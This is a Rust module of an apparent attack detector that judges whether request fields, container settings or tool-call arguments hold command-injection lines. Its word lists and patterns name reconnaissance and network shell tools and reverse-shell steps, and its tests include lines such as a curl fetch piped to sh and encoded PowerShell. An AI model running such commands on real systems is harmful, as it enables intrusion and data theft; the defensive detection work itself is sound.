//! Is a command line that a request's members spell an attack: an interpreter with code, a command that looks around?
//!
//! Interfaces that run programs by design (containers, jobs, tool servers) take the program in one member and its arguments in
//! others. Most of what they run is harmless, so the program alone is no evidence: what it is told to do decides.

use super::bytes::{find, has_any};
use super::shell::{interpreter, names};
use super::subject::Subject;
use super::word_list::WordList;
use crate::detect::matcher::Evidence;
use crate::read::target::Target;

/// Commands by which somebody looks around, loads something or connects, and that no service is asked to run by name.
static LOOKS: WordList = WordList::new(
    "base64 certutil curl dig expr id ifconfig ipconfig nc ncat netcat netstat nslookup printenv socat systeminfo tasklist \
     telnet uname useradd wget whoami",
);
/// Those of them that need an argument to do harm.
static NEEDS_ARGUMENT: WordList =
    WordList::new("base64 certutil curl dig expr nc ncat netcat nslookup socat telnet useradd wget");
/// Commands that services run too; with one of these arguments they look around.
const READS: &[(&[u8], &[&[u8]])] = &[
    (b"cat", &[b"/etc/", b"/proc/", b"/root", b"/home/", b"shadow", b"flag"]),
    (b"ls", &[b"-la", b"-al", b" /"]),
    (b"dir", &[b"c:", b" /"]),
    (b"type", &[b"c:", b"\\"]),
    (b"net", &[b" user", b" localgroup"]),
    (b"set", &[b"/a "]),
    (b"ping", &[b"-c ", b"-n "]),
    (b"chmod", &[b"777", b"+s"]),
    (b"rm", &[b"-rf /"]),
    // How a check shows that it ran.
    (b"touch", &[b" /tmp/"]),
];
/// What code does that connects back, runs what it loads or starts another shell.
#[rustfmt::skip]
const STEPS: &[&[u8]] = &[
    b"/dev/tcp/", b"| sh", b"|sh", b"| bash", b"|bash", b"base64 -d", b"base64 --decode", b"os.system(", b"subprocess", b"child_process", b"socket", b"exec 'id", b"system(", b"/etc/passwd",
    b"/etc/shadow", b"downloadstring", b"frombase64", b"iex(", b"iex ", b"invoke-expression", b"mkfifo",
];
/// A longer value, in bytes, is no single line.
const LONGEST: usize = 512;
/// So many words before the interpreter are skipped: `chroot /mnt sh -c …`, `env sh -c …`.
const BEFORE: usize = 4;

/// Names of members that hold a program or a whole command.
#[rustfmt::skip]
const PROGRAMS: &[&[u8]] = &[
    b"cmd", b"command", b"commands", b"cmdline", b"commandline", b"command_line", b"exec", b"execute", b"executable", b"program", b"binary", b"shell", b"shellcmd", b"system", b"entrypoint",
    b"utilcmd", b"application", b"interpreter", b"gluesource", b"shell_command", b"run_command", b"oscommand", b"exepath",
];

/// Does a member of this name hold a program or a command that is run?
pub(in crate::detect) fn is_program(name: &[u8]) -> bool {
    may_be(name) && PROGRAMS.iter().any(|known| name.eq_ignore_ascii_case(known))
}

/// May it be one of these names, by its first letter and its length? Nearly every name of a request is asked.
pub(in crate::detect) fn may_be(name: &[u8]) -> bool {
    let Some(first) = name.first() else { return false };
    let letter = usize::from((first | 0x20).wrapping_sub(b'a'));
    LENGTHS.get(letter).is_some_and(|lengths| name.len() < 32 && lengths & 1 << name.len() != 0)
}

/// For each first letter, a bit for each length of a name of a program, of arguments or of what a container sees.
static LENGTHS: [u32; 26] = lengths(&[PROGRAMS, ARGUMENTS, MOUNTS, EXPRESSIONS]);

#[expect(clippy::indexing_slicing, reason = "it runs in the compiler, which checks")]
const fn lengths(lists: &[&[&[u8]]]) -> [u32; 26] {
    let mut lengths = [0; 26];
    let mut list = 0;
    while list < lists.len() {
        let mut at = 0;
        while at < lists[list].len() {
            let name = lists[list][at];
            lengths[(name[0] - b'a') as usize] |= 1 << name.len();
            at += 1;
        }
        list += 1;
    }
    lengths
}

/// Names of members that hold arguments.
#[rustfmt::skip]
const ARGUMENTS: &[&[u8]] = &[b"args", b"argv", b"arguments", b"params", b"parameters", b"utilcmdargs", b"cmdargs", b"cmd_args", b"commandargs", b"arg"];

/// Does a member of this name hold the arguments of a program?
pub(in crate::detect) fn is_argument(name: &[u8]) -> bool {
    ARGUMENTS.iter().any(|known| name.eq_ignore_ascii_case(known))
}

/// Names of members that hold what a container sees of its machine.
const MOUNTS: &[&[u8]] = &[b"binds", b"volumes"];

/// Does a member of this name hold what a container sees of its machine?
pub(in crate::detect) fn is_mount(name: &[u8]) -> bool {
    MOUNTS.iter().any(|known| name.eq_ignore_ascii_case(known))
}

/// Names of members that hold code which is evaluated.
const EXPRESSIONS: &[&[u8]] = &[b"script", b"expression", b"expr"];

/// Does a member of this name hold code which is evaluated?
pub(in crate::detect) fn is_expression(name: &[u8]) -> bool {
    EXPRESSIONS.iter().any(|known| name.eq_ignore_ascii_case(known))
}

/// No command that looks around without arguments is longer, in bytes.
pub(in crate::detect) const LONGEST_BARE: usize = 12;

/// Names of parameters that hold an address which a device pings or resolves.
#[rustfmt::skip]
const HOSTS: &[&[u8]] = &[
    b"ip", b"host", b"addr", b"hostname", b"ipaddr", b"ipaddress", b"ip_address", b"ping_ip", b"pingaddr", b"target_addr", b"dest_host", b"target_host", b"pingipaddress",
];

/// `data[ip]`, `data%5Bip%5D`: does a parameter of this name hold an address, and is the value a command that looks around instead?
pub(in crate::detect) fn is_in_place_of_host(name: &[u8], value: &[u8]) -> bool {
    // Nearly every value ends here: a few letters are looked up, without a copy of its own.
    let mut letters = [0_u8; LONGEST_BARE];
    let Some(plain) = letters.get_mut(..value.len()).filter(|_| name.len() <= 48) else { return false };
    plain.copy_from_slice(value);
    plain.make_ascii_lowercase();
    // `HostName=hostname`: an example that nobody filled in.
    let is_example = name.len() >= value.len()
        && name.get(name.len() - value.len()..).is_some_and(|end| end.eq_ignore_ascii_case(value));
    if !BARE.has(plain) || is_example {
        return false;
    }
    let end = [&b"]"[..], b"%5D", b"%5d"].iter().find_map(|end| name.strip_suffix(*end)).unwrap_or(name);
    HOSTS.iter().any(|known| {
        let start = end
            .len()
            .checked_sub(known.len())
            .filter(|at| end.get(*at..).is_some_and(|last| last.eq_ignore_ascii_case(known)));
        let apart = |at: usize| {
            let before = end.get(..at).unwrap_or_default();
            before.is_empty()
                || end.len() < name.len() && [&b"["[..], b"%5B", b"%5b"].iter().any(|sign| before.ends_with(sign))
        };
        start.is_some_and(apart)
    })
}

/// `1234*5678`: two numbers and nothing else, to see whether something multiplies them.
pub(in crate::detect) fn is_product(value: &[u8]) -> bool {
    let mut numbers = value.trim_ascii().split(|byte| *byte == b'*').map(<[u8]>::trim_ascii);
    let number = |text: Option<&[u8]>| {
        text.is_some_and(|text| (1..=9).contains(&text.len()) && text.iter().all(u8::is_ascii_digit))
    };
    number(numbers.next()) && number(numbers.next()) && numbers.next().is_none()
}

/// Does a member of this name tell of a command that ran, or that a language model asked for, rather than have one run: in a conversation's
/// messages, in the history of an image?
pub(in crate::detect) fn is_reported(name: &[u8]) -> bool {
    let mut parts = name.split(|byte| *byte == b'.');
    let last = parts.clone().next_back().unwrap_or_default();
    let is_told = last.eq_ignore_ascii_case(b"created_by") && parts.clone().any(|part| part == b"history");
    let is_text = matches!(last, b"text" | b"content");
    let is_said = parts.next() == Some(b"messages")
        && (is_text || parts.any(|part| matches!(part, b"input" | b"tool_calls" | b"arguments")));
    is_told || is_said
}

/// Reports the value of one member as a whole command line. Reads the view once.
pub(super) fn verify(subject: &Subject<'_>, found: &mut dyn FnMut(Evidence)) {
    let name = subject.name.rsplit(|byte| *byte == b'.').next().unwrap_or_default();
    if subject.view.len() <= LONGEST
        && !(subject.target == Target::Json && is_reported(subject.name))
        && let Some(evidence) = judge(subject.view, is_program(name))
        && !(subject.target == Target::Json && is_of_tool(subject.name, subject.view))
    {
        found(evidence);
    }
}

/// `params.arguments.command`: what a language model has a tool do (Model Context Protocol, `tools/call`), which lists the directory
/// that it works in and does nothing that attackers do.
pub(in crate::detect) fn is_of_tool(name: &[u8], line: &[u8]) -> bool {
    let is_plain = !line.iter().any(|byte| b";|$>`(".contains(byte));
    name.starts_with(b"params.arguments.") && line.starts_with(b"ls ") && is_plain && !is_hostile_line(line)
}

/// Commands that look around without arguments, as somebody asks for them who found a parameter that is run.
static BARE: WordList =
    WordList::new("dir hostname id ifconfig ipconfig ls netstat ps pwd systeminfo tasklist uname ver w whoami");

/// Is the value one of those?
pub(in crate::detect) fn is_bare(value: &[u8]) -> bool {
    let is_sign = |byte: &u8| byte.is_ascii_whitespace() || b";|&".contains(byte);
    let start = value.iter().position(|byte| !is_sign(byte)).unwrap_or(value.len());
    let end = value.iter().rposition(|byte| !is_sign(byte)).map_or(start, |last| last + 1);
    let value = value.get(start..end).unwrap_or_default().to_ascii_lowercase();
    BARE.has(base(&value))
}

/// Does a header's value begin with a known command: `cmd: whoami`?
pub(in crate::detect) fn is_command(value: &[u8]) -> bool {
    let start = value.iter().position(|byte| *byte != b'@').unwrap_or(value.len());
    let (word, _) = first_word(value.get(start..).unwrap_or_default());
    names::is_command(&base(word).to_ascii_lowercase())
}

/// What the line is evidence of. `named`: does the member's name say that it is run? Costs time linear in the line.
pub(in crate::detect) fn judge(line: &[u8], named: bool) -> Option<Evidence> {
    let line = line.trim_ascii();
    let mut rest = line;
    for _ in 0..BEFORE {
        let (word, after) = first_word(rest);
        if let Some(code) = interpreter::code(base(word), after)
            && (is_hostile(code) || is_encoded(after))
        {
            return Some(Evidence::ArgvCode);
        }
        rest = after.trim_ascii_start();
    }
    // The program is fixed, and only its arguments are asked for.
    let behind = |at: usize| line.get(at..).unwrap_or_default();
    let code = if line.starts_with(b"-c ") { Some(behind(3)) } else { find(line, 0, b" -c ").map(|at| behind(at + 4)) };
    if named && code.is_some_and(is_hostile) {
        return Some(Evidence::ArgvCode);
    }
    (named && looks_around(line)).then_some(Evidence::ArgvCommand)
}

/// Does one of the commands of a line look around or take such a step? A list of the directory it works in is none.
pub(super) fn is_hostile_line(line: &[u8]) -> bool {
    let lists = |command: &[u8]| command.trim_ascii().starts_with(b"ls ") && !command.contains(&b'/');
    has_any(line, STEPS)
        || line
            .split(|byte| matches!(byte, b';' | b'|' | b'&' | b'\n'))
            .any(|command| looks_around(command) && !lists(command))
}

/// Does the code run a command that looks around, or take a step that harmless services don't? Who changes to a directory first
/// may list it.
fn is_hostile(code: &[u8]) -> bool {
    let code = code.trim_ascii_start();
    if code.starts_with(b"cd ") {
        return is_hostile_line(code);
    }
    has_any(code, STEPS) || code.split(|byte| matches!(byte, b';' | b'|' | b'&' | b'\n')).any(looks_around)
}

fn looks_around(command: &[u8]) -> bool {
    let quote = |byte: &u8| matches!(byte, b'"' | b'\'' | b'(' | b'`' | b'@' | b' ' | b'\\');
    let start = command.iter().position(|byte| !quote(byte)).unwrap_or(command.len());
    let (word, rest) = first_word(command.get(start..).unwrap_or_default());
    let end = word.iter().rposition(|byte| !quote(byte) && *byte != b')').map_or(0, |at| at + 1);
    let name = base(word.get(..end).unwrap_or_default());
    let rest = rest.trim_ascii_end();
    let own = has_any(rest, &[b"localhost", b"127.0.0.1"]);
    let prose =
        rest.trim_ascii().split(|byte| *byte == b' ').filter(|word| word.iter().all(u8::is_ascii_alphabetic)).count()
            > 2;
    if LOOKS.has(name) {
        return !prose && !own && (!NEEDS_ARGUMENT.has(name) || !rest.is_empty());
    }
    READS.iter().any(|(known, arguments)| *known == name && has_any(rest, arguments))
}

/// `-enc SQBFAFgA`: code of PowerShell that nobody can read.
fn is_encoded(arguments: &[u8]) -> bool {
    let (option, code) = first_word(arguments.trim_ascii_start());
    let code = code.trim_ascii();
    option.starts_with(b"-e")
        && code.len() >= 8
        && code.iter().all(|byte| byte.is_ascii_alphanumeric() || b"+/=".contains(byte))
}

fn first_word(text: &[u8]) -> (&[u8], &[u8]) {
    let end = text.iter().position(u8::is_ascii_whitespace).unwrap_or(text.len());
    text.split_at(end)
}

/// Without directories, and without `.exe`.
fn base(word: &[u8]) -> &[u8] {
    let name = word.rsplit(|byte| matches!(byte, b'/' | b'\\')).next().unwrap_or_default();
    name.strip_suffix(b".exe").unwrap_or(name)
}

/// `/:/host`: does a container get the root of the machine it runs on?
pub(in crate::detect) fn mounts_root(value: &[u8]) -> bool {
    value.starts_with(b"/:/") && value.len() < 256
}

#[cfg(test)]
mod tests {
    use super::judge;
    use crate::detect::matcher::Evidence::{ArgvCode, ArgvCommand};

    #[test]
    fn what_a_line_does_decides() {
        for (line, named, expected) in [
            ("sh -c id", false, Some(ArgvCode)),
            ("/bin/bash -lc 'curl x.example/a|sh'", false, Some(ArgvCode)),
            ("chroot /mnt sh -c id", false, Some(ArgvCode)),
            ("python3.11 -c import os;os.system('x')", false, Some(ArgvCode)),
            ("powershell -enc SQBFAFgA", false, Some(ArgvCode)),
            ("cmd.exe /c whoami", false, Some(ArgvCode)),
            ("run -c \"whoami\"", true, Some(ArgvCode)),
            ("id", true, Some(ArgvCommand)),
            ("nc a.example", true, Some(ArgvCommand)),
            ("cat /etc/x", true, Some(ArgvCommand)),
            ("sh -c npm start", true, None),
            ("sh -c curl -f http://localhost/health", true, None),
            ("npx -y server /home/a", true, None),
            ("id", false, None),
            ("wget", true, None),
            ("ping", true, None),
            ("id of the person we met", true, None),
        ] {
            assert_eq!(judge(line.as_bytes(), named), expected, "{line}");
        }
    }
}
